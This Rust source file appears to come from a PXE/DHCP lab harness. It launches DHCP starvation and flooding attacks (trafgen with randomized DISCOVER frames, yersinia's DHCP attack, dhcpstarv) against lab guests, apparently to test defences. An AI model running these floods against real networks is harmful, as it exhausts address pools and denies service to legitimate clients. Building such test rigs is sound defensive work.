//! Programs that flood a network with messages of DHCP clients, or take every address there is.

use std::fmt::Write as _;

use anyhow::{Context as _, Result};
use pxeguard_lab::frames::{Message, UdpChecksum};
use pxeguard_lab::{Guest, Process, provided};

/// Where they are; Debian's packages of the same names.
pub const DHCPSTARV: &str = "/usr/bin/dhcpstarv";
pub const YERSINIA: &str = "/usr/bin/yersinia";

#[derive(Clone, Copy, Debug)]
pub enum Attacker {
    /// DISCOVERs of random clients as fast as a CPU can.
    Trafgen,
    /// The same, as the tool of the trade does it.
    Yersinia,
    /// Takes one address after the other.
    Dhcpstarv,
}

impl Attacker {
    /// Starts it on a guest's `eth0`; it goes on until the process is dropped.
    pub fn start(self, guest: &Guest) -> Result<Process> {
        match self {
            Self::Trafgen => {
                const FRAME: &str = "/run/lab/discover.trafgen";
                guest.write(FRAME, discover())?;
                // Without a rate, even one that nothing reaches, it sends through a TX ring.
                let rate = ["--rate", "90000000pps"];
                let trafgen = ["trafgen", "--dev", "eth0", "--conf", FRAME, "--cpus", "1", "--no-sock-mem"];
                guest.spawn([&trafgen[..], &rate].concat())
            }
            Self::Yersinia => {
                // It ends as soon as there is anything to read, be it the end; and it writes a log where it stands.
                let attack = format!("cd /run/lab; sleep 1000 | {} dhcp -attack 1 -interface eth0", path(YERSINIA)?);
                in_own_pids(guest, &["sh", "-c", &attack])
            }
            Self::Dhcpstarv => guest.spawn([&path(DHCPSTARV)?, "-v", "-i", "eth0"]),
        }
    }
}

/// So that all of it ends with the process.
fn in_own_pids(guest: &Guest, command: &[&str]) -> Result<Process> {
    guest.spawn([&["unshare", "--pid", "--fork", "--kill-child"], command].concat())
}

fn path(program: &str) -> Result<String> {
    let path = provided(program).with_context(|| format!("{program} is neither installed nor unpacked"))?;
    Ok(path.to_string_lossy().into_owned())
}

/// A DISCOVER, as trafgen takes it: transaction and client are random.
fn discover() -> String {
    const XID: usize = 14 + 20 + 8 + 4;
    const CHADDR: usize = 14 + 20 + 8 + 28;
    let frame = Message::discover().with(|discover| discover.udp.checksum = UdpChecksum::Zero).frame();
    let mut text = "{ ".to_owned();
    for (at, byte) in frame.iter().enumerate() {
        match at {
            // The first byte stays that of an address of somebody's own.
            7 => text.push_str("drnd(5), "),
            XID => text.push_str("drnd(4), "),
            _ if at == CHADDR + 1 => text.push_str("drnd(5), "),
            8..12 => {}
            _ if (XID..XID + 4).contains(&at) || (CHADDR + 1..CHADDR + 6).contains(&at) => {}
            _ => write!(text, "{byte}, ").expect("a string takes everything"),
        }
    }
    format!("{} }}\n", text.trim_end_matches(", "))
}
